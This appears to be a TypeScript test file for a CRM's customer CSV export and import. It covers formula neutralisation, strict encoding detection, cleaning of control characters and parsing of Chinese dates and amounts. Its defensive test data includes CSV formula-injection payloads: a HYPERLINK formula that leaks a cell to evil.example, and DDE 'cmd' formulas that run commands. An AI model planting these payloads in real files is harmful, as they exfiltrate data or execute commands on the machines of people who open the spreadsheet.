// CSV in and out of hostile and messy files: formula injection neutralised on export and
// recognised on import, strict per-file decoding (BOM, UTF-8, GB18030 only when valid, mixed
// files refused with the line), and per-row problems instead of failures for NUL bytes and
// broken quoting; control characters and bidi overrides stored clean.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestDatabase, type TestDatabase } from "../../../test/support/db.js";
import { actor, depsAt, makeDepartment, makeMember, makeTenant } from "../../../test/support/fixtures.js";
import { createCustomer } from "../customers/customers.js";
import { isDomainError } from "../shared/errors.js";
import { systemActor } from "./actor.js";
import { decodeCsvBytes, decodeCsvFile } from "./csv.js";
import { exportCustomersCsv } from "./customers-export.js";
import { importCustomersCsv, type ImportFailure, type ImportSuccess } from "./customers-import.js";
import { neutraliseFormula } from "./formula.js";

let tdb: TestDatabase;
beforeAll(async () => {
  tdb = await openTestDatabase();
});
afterAll(async () => {
  await tdb?.close();
});

async function scene() {
  const tenant = await makeTenant(tdb.prisma);
  const d = await makeDepartment(tdb.prisma, tenant.id);
  const owner = await makeMember(tdb.prisma, tenant.id, { supervisorId: d.s1.id, name: "王芳", platformUserId: "U_WANG" });
  return { tenant, d, owner, deps: depsAt(tdb.prisma) };
}

async function collect(gen: AsyncGenerator<string>): Promise<string> {
  let out = "";
  for await (const chunk of gen) out += chunk;
  return out;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3"];

describe("formula-safe export", () => {
  it("prefixes every cell a spreadsheet would run with a single quote, and leaves numbers and dates alone", () => {
    expect(FORMULAS.map(neutraliseFormula)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(neutraliseFormula("\t=1+2")).toBe("'\t=1+2");
    expect(neutraliseFormula("\r=1+2")).toBe("'\r=1+2");
    expect(neutraliseFormula("-1200.50")).toBe("-1200.50");
    expect(neutraliseFormula("1200.00")).toBe("1200.00");
    expect(neutraliseFormula("2026-12-01")).toBe("2026-12-01");
    expect(neutraliseFormula("华为技术有限公司")).toBe("华为技术有限公司");
  });

  it("exports customers named with the formula samples as text cells, and re-imports them as typed", async () => {
    const { tenant, d, owner, deps } = await scene();
    for (const name of FORMULAS) await createCustomer(deps, actor(d.manager), { name, ownerId: owner.id, industry: "=1+1", annualPurchaseFen: 120_000n });
    const csv = await collect(exportCustomersCsv(deps, systemActor(tenant.id)));
    const lines = csv.replace(/^\uFEFF/u, "").trim().split("\r\n").slice(1);
    expect(lines).toHaveLength(FORMULAS.length);
    for (const line of lines) {
      // The first cell (name) and the industry cell both open with the quote, inside CSV quoting where needed.
      expect(line).toMatch(/^"?'[=+\-@]/u);
      expect(line).toContain(",'=1+1,");
      // The amount stays a plain number.
      expect(line).toContain(",1200.00,");
    }
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);

    // Into a second tenant: the quote is our own neutralisation and is removed; each row is
    // imported, with a warning naming the formula-looking cells.
    const other = await scene();
    const result = await importCustomersCsv(other.deps, systemActor(other.tenant.id), csv);
    expect(result).toMatchObject({ ok: true, imported: FORMULAS.length });
    const names = (await tdb.prisma.customer.findMany({ where: { tenantId: other.tenant.id }, select: { name: true, industry: true } })).map((c) => c.name);
    expect(names.sort()).toEqual([...FORMULAS].sort());
    const warnings = (result as ImportSuccess).warnings;
    expect(warnings.filter((w) => w.code === "import.formula_cell" && w.field === "name")).toHaveLength(FORMULAS.length);
    expect(warnings.filter((w) => w.code === "import.formula_cell" && w.field === "industry")).toHaveLength(FORMULAS.length);

    // Exported again, the second tenant's file says the same as the first's.
    const again = await collect(exportCustomersCsv(other.deps, systemActor(other.tenant.id)));
    const cells = (text: string) => text.split("\r\n").map((l) => l.split(",")[0]);
    expect(cells(again)).toEqual(cells(csv));
  });
});

describe("strict decoding", () => {
  const csv = "name,owner\r\n华为技术有限公司,U_WANG\r\n比亚迪股份有限公司,U_WANG\r\n";

  function utf16(text: string, order: "le" | "be"): Uint8Array {
    const le = Buffer.from(`\uFEFF${text}`, "utf16le");
    if (order === "le") return new Uint8Array(le);
    const be = Buffer.alloc(le.length);
    for (let i = 0; i < le.length; i += 2) {
      be[i] = le[i + 1]!;
      be[i + 1] = le[i]!;
    }
    return new Uint8Array(be);
  }

  it("imports UTF-16 LE and BE files with a byte-order mark (Excel's Unicode text)", async () => {
    for (const order of ["le", "be"] as const) {
      const decoded = decodeCsvFile(utf16(csv, order));
      expect(decoded).toEqual({ ok: true, text: csv, encoding: `utf-16${order}` });
      const { tenant, deps } = await scene();
      const result = await importCustomersCsv(deps, systemActor(tenant.id), decodeCsvBytes(utf16(csv, order)));
      expect(result).toMatchObject({ ok: true, imported: 2 });
      expect(await tdb.prisma.customer.count({ where: { tenantId: tenant.id, name: "华为技术有限公司" } })).toBe(1);
    }
  });

  it("reads UTF-8 with and without BOM, and a file that is GB18030 throughout", () => {
    expect(decodeCsvFile(new Uint8Array(Buffer.from(`\uFEFF${csv}`)))).toEqual({ ok: true, text: csv, encoding: "utf-8" });
    expect(decodeCsvFile(new Uint8Array(Buffer.from(csv)))).toEqual({ ok: true, text: csv, encoding: "utf-8" });
    const gb = Buffer.concat([Buffer.from("name,owner\r\n"), Buffer.from("b1c8d1c7b5cfb9c9b7dd", "hex"), Buffer.from(",U_WANG\r\n")]);
    expect(decodeCsvFile(new Uint8Array(gb))).toEqual({ ok: true, text: "name,owner\r\n比亚迪股份,U_WANG\r\n", encoding: "gb18030" });
  });

  it("refuses a file mixing UTF-8 and GB18030 lines, naming the first line that is not UTF-8", () => {
    const mixed = Buffer.concat([
      Buffer.from("name,owner\n华为技术有限公司,U_WANG\n"),
      Buffer.from("b1c8d1c7b5cfb9c9b7dd", "hex"),
      Buffer.from(",U_WANG\n中兴通讯,U_WANG\n"),
    ]);
    expect(decodeCsvFile(new Uint8Array(mixed))).toMatchObject({ ok: false, problem: { line: 3, code: "import.invalid_encoding" } });
    try {
      decodeCsvBytes(new Uint8Array(mixed));
      expect.unreachable();
    } catch (err) {
      expect(isDomainError(err) && err.code).toBe("import.invalid_encoding");
      expect(isDomainError(err) && err.params).toMatchObject({ line: 3 });
    }
  });

  it("refuses one stray byte in a UTF-8 file instead of reading the whole file as GB18030 mojibake", () => {
    const stray = Buffer.concat([Buffer.from("name,owner\n华为技术有限公司,U_WANG\nAcme"), Buffer.from([0xff]), Buffer.from(",U_WANG\n")]);
    expect(decodeCsvFile(new Uint8Array(stray))).toMatchObject({ ok: false, problem: { line: 3 } });
  });

  it("reads a file in the encoding forced with --encoding, strictly", () => {
    const gb = new Uint8Array(Buffer.from("b1c8d1c7b5cfb9c9b7dd", "hex"));
    expect(decodeCsvFile(gb, "gb18030")).toMatchObject({ ok: true, text: "比亚迪股份" });
    expect(decodeCsvFile(gb, "utf-8")).toMatchObject({ ok: false, problem: { line: 1, params: { encoding: "utf-8" } } });
  });
});

describe("messy cells", () => {
  it("stores a name with ESC, U+202E and a lone surrogate clean, and reports a NUL byte as that row's problem", async () => {
    const { tenant, deps } = await scene();
    const dirty = "name,owner\nEvil\u001b[2J\u202Eexe\ud800 Co,U_WANG\n";
    expect(await importCustomersCsv(deps, systemActor(tenant.id), dirty)).toMatchObject({ ok: true, imported: 1 });
    expect((await tdb.prisma.customer.findFirstOrThrow({ where: { tenantId: tenant.id } })).name).toBe("Evil[2Jexe\ufffd Co");

    const withNul = "name,owner\nGood Co,U_WANG\nBad\u0000 Co,U_WANG\n\"Unclosed,U_WANG\n";
    const result = (await importCustomersCsv(deps, systemActor(tenant.id), withNul)) as ImportFailure;
    expect(result.ok).toBe(false);
    expect(result.problems.map((p) => `${p.line}:${p.code}`)).toEqual(["3:import.nul_byte", "4:import.malformed_row"]);
    expect(await tdb.prisma.customer.count({ where: { tenantId: tenant.id } })).toBe(1);
  });
});

describe("Chinese spreadsheet values", () => {
  it("accepts dates as 2020/1/1 and 2020年1月1日 and amounts with 万, and still refuses impossible ones", async () => {
    const { tenant, deps } = await scene();
    const csv = [
      "客户名称,客户经理,年采购额,合作开始日期",
      "甲公司,U_WANG,120万,2020/1/1",
      "乙公司,U_WANG,1.5万元,2020年1月1日",
      "丙公司,U_WANG,\"1,200.50\",2019.12.31",
    ].join("\n");
    expect(await importCustomersCsv(deps, systemActor(tenant.id), csv)).toMatchObject({ ok: true, imported: 3 });
    const rows = await tdb.prisma.customer.findMany({ where: { tenantId: tenant.id }, orderBy: { nameKey: "asc" } });
    const byName = new Map(rows.map((r) => [r.name, r]));
    expect(byName.get("甲公司")!.annualPurchaseFen).toBe(120_000_000n);
    expect(byName.get("乙公司")!.annualPurchaseFen).toBe(1_500_000n);
    expect(byName.get("丙公司")!.annualPurchaseFen).toBe(120_050n);
    expect(byName.get("甲公司")!.cooperationStart?.toISOString().slice(0, 10)).toBe("2020-01-01");
    expect(byName.get("乙公司")!.cooperationStart?.toISOString().slice(0, 10)).toBe("2020-01-01");
    expect(byName.get("丙公司")!.cooperationStart?.toISOString().slice(0, 10)).toBe("2019-12-31");

    const bad = "客户名称,客户经理,年采购额,合作开始日期\n丁公司,U_WANG,1.2.3万,2020年2月30日\n";
    const result = (await importCustomersCsv(deps, systemActor(tenant.id), bad)) as ImportFailure;
    expect(result.problems.map((p) => p.code)).toEqual(["import.invalid_amount", "import.invalid_date"]);
    // The messages name the columns as the file's header writes them.
    expect(result.problems.map((p) => [p.field, p.params.field])).toEqual([
      ["annual_purchase", "年采购额"],
      ["cooperation_start", "合作开始日期"],
    ]);
  });
});
